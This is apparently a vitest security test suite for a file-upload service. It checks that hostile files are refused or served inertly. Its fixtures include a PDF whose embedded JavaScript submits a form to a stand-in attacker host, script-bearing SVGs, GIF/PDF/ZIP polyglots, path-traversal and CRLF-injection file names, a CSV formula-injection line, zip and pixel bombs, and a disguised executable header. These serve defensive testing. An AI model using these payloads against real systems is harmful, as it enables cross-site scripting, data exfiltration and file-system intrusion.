import { randomBytes } from 'node:crypto';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SignedPut, UploadResult } from '../../../../shared/contract/storage.ts';
import { files } from '../../../db/schema/files.ts';
import { renditionJobs } from '../../../files/renditions/renditions.jobs.ts';
import { type Caller, openTestApp, type TestApp } from '../../../testing/app.ts';
import { bombOf } from '../../../testing/corpus/bombOf.ts';
import { buildLibrary } from '../../../testing/factories.ts';
import { upload } from '../../../testing/uploads.ts';
import { buildZip } from '../../../testing/zips.ts';

let test: TestApp;
let editor: Caller;
let member: Caller;
let libraryId: number;
beforeAll(async () => {
  test = await openTestApp();
  editor = await test.signIn({ roles: ['ROLE_USER', 'ROLE_EDITOR'] });
  member = await test.signIn({});
  libraryId = (await buildLibrary(test.context.db)).id;
});
afterAll(() => test?.close());

const send = (bytes: Uint8Array, name: string): Promise<UploadResult> =>
  upload(test, editor, bytes, { name, libraryId, arriveAs: 'published' });

/** Sends bytes that may be refused; returns the status and the sentence of the refusal. */
async function refusalOf(bytes: Buffer, name: string): Promise<[number, string]> {
  const signed = await editor.post('/api/backend/storage/pre-sign/library-item', {
    name,
    size: bytes.length,
  });
  if (signed.status !== 201) return [signed.status, signed.body.message];
  const { uploadId, url, headers } = signed.body as SignedPut & { uploadId: string };
  const length = { 'content-length': String(bytes.length) };
  await test.app.request(url, {
    method: 'PUT',
    headers: { ...headers, ...length },
    body: new Uint8Array(bytes),
  });
  const done = await editor.post('/api/backend/storage/complete', { uploadId });
  return [done.status, done.body.message];
}
async function render(fileId: number) {
  const run = { signal: new AbortController().signal, isLastTry: true };
  await renditionJobs(test.context)['file.renditions']({ fileId }, run);
  const [file] = await test.context.db.select().from(files).where(eq(files.id, fileId));
  if (!file) throw new Error('no file');
  return file;
}

const PDF_WITH_SCRIPT = `%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction <</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example"\\))>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA <</O <</S/JavaScript/JS(app.alert\\(2\\))>>>>>> endobj
trailer <</Root 1 0 R>>
%%EOF`;

const script = '<script>parent.document.title = "owned"</script>';
const drawing =
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="9" height="9"/></svg>';

describe('a hostile file', () => {
  it.each([
    [
      'drawing.svg',
      `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
      /^This drawing has the element <script>/,
    ],
    ['drawing.svg', drawing.replace('<rect', '<rect onclick="x()"'), /^This drawing has the event attribute/],
    ['page.pdf', `<!doctype html>${script}`, /only images, videos/],
    ['page.html', script, /^Files of this type are not taken: only images/],
    ['picture.jpg', 'MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000', /only images, videos/],
  ])('is refused with a sentence that says what to do: %s', async (name, content, sentence) => {
    const [status, message] = await refusalOf(Buffer.from(content, 'latin1'), name);
    expect(status).toBe(415);
    expect(message).toMatch(sentence);
  });

  it.each([
    [
      'library-item',
      'film.mp4',
      Buffer.from('MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000', 'latin1'),
      415,
    ],
    ['library-item', 'page.pdf', Buffer.from(`<!doctype html>${script}`), 415],
    ['picture', 'cover.png', Buffer.from('%PDF-1.7\n'), 415],
    ['library-item', 'drawing.svg', Buffer.from(`<?xml version="1.0"?><!--${'x'.repeat(4000)}`), 201],
    ['library-item', 'unknown.psd', randomBytes(100), 201],
    ['folder', 'page.pdf', Buffer.from(`<!doctype html>${script}`), 201],
  ])('is refused before it is sent where its first bytes tell: %s %s', async (type, name, bytes, status) => {
    const signed = await editor.post(`/api/backend/storage/pre-sign/${type}`, {
      name,
      size: 4_000_000,
      head: bytes.toString('base64'),
    });
    expect(signed.status).toBe(status);
    if (status === 415) expect(signed.body.message).toMatch(/^The content of this file is of a type/);
  });

  it.each([
    ['../../../etc/passwd.pdf', 'passwd.pdf'],
    ['..\\..\\windows\\system.pdf', 'system.pdf'],
    ['/etc/shadow.pdf', 'shadow.pdf'],
    ['.htaccess.pdf', 'htaccess.pdf'],
    ['a\r\nSet-Cookie: x.pdf', 'aSet-Cookie x.pdf'],
  ])('with a name that climbs keeps only its last part: %s', async (name, kept) => {
    const { file } = await send(Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(20)]), name);
    expect(file.name).toBe(kept);
    const [row] = await test.context.db.select().from(files).where(eq(files.id, file.id));
    expect(row?.storageKey).toMatch(/^library-item\/\d{4}\/[0-9a-f-]+\/[0-9a-f-]+$/);
  });

  it('that is a ZIP of a thousand times its size is stored as it is, and never unpacked', async () => {
    const zip = buildZip([
      { name: '../../climb.txt', bytes: Buffer.alloc(20 * 1024 * 1024) },
      { name: 'claims.txt', bytes: Buffer.alloc(10), claimedSize: 4_000_000_000 },
    ]);
    const { file } = await send(zip, 'bomb.zip');
    expect(file).toMatchObject({ state: 'ready', kind: 'archive', size: zip.length, renditionState: 'none' });
  });

  it('that is a picture of billions of pixels gets no previews, and the next one gets its own', async () => {
    const bomb = bombOf(60_000);
    const { file } = await send(bomb, 'bomb.png');
    const before = process.memoryUsage().rss;
    expect(await render(file.id)).toMatchObject({
      state: 'ready',
      renditionState: 'failed',
      renditionFailure: expect.stringMatching(/pixel limit/i),
    });
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * 1024 * 1024);
    const sound = await sharp({ create: { width: 30, height: 20, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    expect(await render((await send(sound, 'sound.png')).file.id)).toMatchObject({ renditionState: 'ready' });
  });

  it('that is a PDF with scripts is drawn without running them', async () => {
    const { file } = await send(Buffer.from(PDF_WITH_SCRIPT), 'form.pdf');
    expect(await render(file.id)).toMatchObject({ state: 'ready', renditionState: 'ready', pages: 1 });
  });
});

describe('the original of a file that could be taken for a page', () => {
  const gif = Buffer.from('GIF89a/*\u0001\u0000\u0001\u0000\u0000\u0000*/=1;alert(1)', 'latin1');
  const cases: [string, Buffer, string][] = [
    ['drawing.svg', Buffer.from(drawing), 'image/svg+xml'],
    ['polyglot.gif', Buffer.concat([gif, Buffer.from(script)]), 'image/gif'],
    ['polyglot.pdf', Buffer.from(`%PDF-1.7\n<html>${script}</html>`), 'application/pdf'],
    [
      'polyglot.zip',
      Buffer.concat([buildZip([{ name: 'a.txt', bytes: randomBytes(9) }]), Buffer.from(script)]),
      'application/zip',
    ],
    ['page.txt', Buffer.from(`a note\n${script}`), 'text/plain'],
    ['list.csv', Buffer.from(`=cmd|calc;${script}\n1;2`), 'text/csv'],
  ];

  it.each(cases)('leaves by no exit as a page of ours: %s', async (name, bytes, mediaType) => {
    const { item } = await send(bytes, name);
    const id = item?.id;
    const exits: [Caller, string][] = ['attachment', 'inline'].flatMap((disposition): [Caller, string][] => [
      [member, `/api/private/libraryitems/${id}/pre-signed?disposition=${disposition}`],
      [editor, `/api/backend/library-item/${id}/pre-signed?disposition=${disposition}`],
      [editor, `/api/backend/library-item/${id}/pre-signed?version=1&disposition=${disposition}`],
    ]);
    for (const [caller, path] of exits) {
      const signed = await caller.get(path);
      expect([path, signed.status]).toEqual([path, 200]);
      const response = await test.app.request(signed.body.url);
      await response.arrayBuffer();
      const { headers } = response;
      expect([response.status, headers.get('content-type')?.split(';')[0]]).toEqual([200, mediaType]);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      const isAttachment = headers.get('content-disposition')?.startsWith('attachment') ?? false;
      const isSandboxed = /(^|;)\s*sandbox\s*(;|$)/.test(headers.get('content-security-policy') ?? '');
      // A browser's own PDF viewer keeps scripts of a PDF from our pages, and does not open in a sandbox.
      expect(isAttachment || isSandboxed || mediaType === 'application/pdf', path).toBe(true);
      if (path.endsWith('=attachment')) expect(isAttachment, path).toBe(true);
    }
  });

  it('cannot be requested as another type than it has', async () => {
    const { item } = await send(Buffer.from(drawing.replace('9', '8')), 'other.svg');
    const { url } = (await member.get(`/api/private/libraryitems/${item?.id}/pre-signed`)).body;
    const changed = new URL(url, 'http://localhost');
    changed.searchParams.set('type', 'text/html');
    expect((await test.app.request(`${changed.pathname}${changed.search}`)).status).toBe(403);
  });
});
